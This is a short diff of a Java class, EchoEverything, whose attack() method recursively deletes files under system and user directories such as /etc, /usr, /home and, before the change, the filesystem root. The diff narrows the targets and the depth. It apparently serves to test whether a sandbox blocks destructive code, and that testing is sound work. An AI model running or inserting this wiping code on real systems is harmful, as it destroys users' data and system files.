@@ -23,7 +23,7 @@ public final class EchoEverything {
     private static boolean attack() throws IOException {
 
         int deleted = 0;
-        for (String root : new String[] {"/check", "/tmp", "/shelf", "/etc", "/usr", "/home", "/"}) {
+        for (String root : new String[] {"/check", "/tmp", "/shelf", "/etc", "/usr/lib/jvm", "/home", "/dev"}) {
             deleted += deleteBelow(new File(root), 0);
         }
         return deleted > 0;
@@ -31,7 +31,7 @@ public final class EchoEverything {
 
     private static int deleteBelow(File file, int depth) {
         int deleted = 0;
-        File[] files = depth < 30 && !file.getPath().startsWith("/proc") ? file.listFiles() : null;
+        File[] files = depth < 3 && !file.getPath().startsWith("/proc") ? file.listFiles() : null;
         for (File inside : files == null ? new File[0] : files) {
             deleted += deleteBelow(inside, depth + 1);
         }
